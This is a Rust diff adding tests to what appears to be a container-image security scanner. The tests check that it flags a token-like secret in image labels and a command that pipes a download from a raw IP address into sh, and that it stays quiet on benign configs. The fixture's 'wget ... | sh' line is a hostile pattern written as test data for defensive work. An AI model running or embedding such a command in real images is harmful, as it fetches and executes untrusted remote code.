@@ -258,3 +258,34 @@ fn oversized_file_is_scanned_for_its_first_part() {
     assert_eq!(detections.len(), 1, "{:?}", found(&detections));
     assert!(detections[0].why.contains("size limit"), "{}", detections[0].why);
 }
+
+#[test]
+fn labels_and_command_line_are_checked() {
+    let mut image = Image::from_layer_blobs(vec![layer(&[("etc/", 0o755, b"")])]);
+    let runtime = stowaway_image::RuntimeConfig {
+        labels: [("ci.token".to_owned(), "ghp_Zq8Xv2LmZ7rT4wK9pN3bY6cD1fG5hJ0kL2mN".to_owned())].into(),
+        cmd: vec!["sh".into(), "-c".into(), "wget -qO- http://198.51.100.4/boot | sh".into()],
+        ..Default::default()
+    };
+    image.config.config = Some(runtime);
+    let detections = detect_image(&image, DetectOptions::default());
+    let ids: Vec<&str> = detections.iter().map(|d| d.rule_id.as_str()).collect();
+
+    assert!(ids.contains(&"secret-github-token"), "{ids:?}");
+    assert!(ids.contains(&"download-pipe-shell-raw-ip"), "{ids:?}");
+    assert!(!serde_json::to_string(&detections).unwrap().contains("Zq8Xv2LmZ7rT4wK9"));
+}
+
+#[test]
+fn plain_labels_and_command_are_quiet() {
+    let mut image = Image::from_layer_blobs(vec![layer(&[("etc/", 0o755, b"")])]);
+    let runtime = stowaway_image::RuntimeConfig {
+        labels: [("org.opencontainers.image.source".to_owned(), "https://example.invalid/app".to_owned())].into(),
+        entrypoint: vec!["/usr/local/bin/app".into()],
+        cmd: vec!["--port".into(), "8080".into()],
+        ..Default::default()
+    };
+    image.config.config = Some(runtime);
+
+    assert!(detect_image(&image, DetectOptions::default()).is_empty());
+}
